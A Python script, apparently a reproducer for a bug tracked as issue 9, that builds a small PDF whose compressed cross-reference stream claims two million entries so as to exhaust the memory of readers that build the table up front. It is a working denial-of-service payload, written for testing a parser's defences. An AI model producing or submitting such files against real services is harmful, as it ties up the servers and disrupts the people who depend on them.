"""A small PDF whose cross-reference stream claims ENTRIES objects: ~20 KB on the wire, millions of
rows for a reader that trusts it (the upload that tied up a web worker in issue 9)."""

import zlib

ENTRIES = 2_000_000
# /W [1 4 2]: type (1 = in use), byte offset, generation. Every row points at object 1, so a reader
# that builds its table up front holds 2 million live entries.
WIDTHS = (1, 4, 2)


def pdf_bomb(entries: int = ENTRIES) -> bytes:
    head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    objects = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n",
    ]
    body = head
    offsets = []
    for obj in objects:
        offsets.append(len(body))
        body += obj
    row = bytes([1]) + offsets[0].to_bytes(WIDTHS[1], "big") + (0).to_bytes(WIDTHS[2], "big")
    stream = zlib.compress(row * entries, 9)
    xref_offset = len(body)
    xref = (
        b"4 0 obj\n<< /Type /XRef /Size %d /Index [0 %d] /W [%d %d %d] /Root 1 0 R "
        b"/Filter /FlateDecode /Length %d >>\nstream\n"
        % (entries, entries, *WIDTHS, len(stream))
        + stream
        + b"\nendstream\nendobj\n"
    )
    return body + xref + b"startxref\n%d\n%%%%EOF\n" % xref_offset


if __name__ == "__main__":
    import sys

    sys.stdout.buffer.write(pdf_bomb())
